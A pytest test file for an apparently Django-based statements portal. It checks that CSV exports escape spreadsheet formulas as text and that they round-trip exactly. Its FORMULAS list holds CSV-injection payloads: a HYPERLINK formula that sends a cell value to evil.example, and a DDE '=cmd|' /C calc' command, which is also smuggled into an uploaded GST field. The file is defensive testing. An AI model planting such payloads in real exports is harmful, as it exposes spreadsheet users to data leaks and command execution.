"""CSV exports write formulas as text: a note or an uploaded value cannot run in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from carm_portal import csv_cells
from statements import reports
from tests.statements.reconciliation_fixtures import reconciled_statement

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text):
    assert csv_cells.escape(text) == "'" + text


@pytest.mark.parametrize("number", ["-186.00", "+12", "0.27", "-5", "42"])
def test_numbers_stay_numbers(number):
    assert csv_cells.escape(number) == number


@pytest.mark.parametrize(
    "text",
    [*FORMULAS, "plain", "", "'", "'quoted", "'=not a formula", "''=x", "-", "=", "a=b", "€12"],
)
def test_escaping_round_trips_exactly(text):
    assert csv_cells.unescape(csv_cells.escape(text)) == text


def test_the_writer_escapes_every_text_cell():
    out = io.StringIO()

    csv_cells.writer(out).writerow(["=1+1", "-186.00", 3, None, "note"])

    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-186.00", "3", "", "note"]


@pytest.mark.django_db
def test_the_reconciliation_export_writes_a_formula_note_as_text_and_reads_it_back(db):
    from tests.factories import ImporterFactory, ProgramAccountFactory

    account = ProgramAccountFactory(
        importer=ImporterFactory(legal_name="Alpha Imports Inc.", bn9="123456782"),
        bn15="123456782RM0001",
    )
    run = reconciled_statement(account)
    item = run.items.filter(status="amount_mismatch").get()
    item.note = FORMULAS[0]
    item.save()

    text = "".join(reports.csv_lines(run))

    cells = [row[-1] for row in csv.reader(io.StringIO(text))]
    assert "'" + FORMULAS[0] in cells
    assert FORMULAS[0] not in cells
    notes = [row["note"] for row in reports.read_csv(io.StringIO(text))]
    assert FORMULAS[0] in notes
    assert all(not n.startswith("'") for n in notes)
    amounts = [row[3] for row in csv.reader(io.StringIO(text))][1:]
    assert "-186.00" not in [a for a in amounts if a.startswith("'")]


@pytest.mark.django_db
def test_the_errors_csv_writes_an_uploaded_formula_as_text(personas, client_for):
    from tests.statements.conftest import csv_text, run_import, statement_row

    batch = run_import(
        "statement", csv_text("statement", [statement_row(gst="=cmd|' /C calc'!A0")])
    ).batch

    response = client_for(personas.broker_finance).get(f"/statements/imports/{batch.pk}/errors.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    values = [row[2] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in values
    assert "=cmd|' /C calc'!A0" not in values
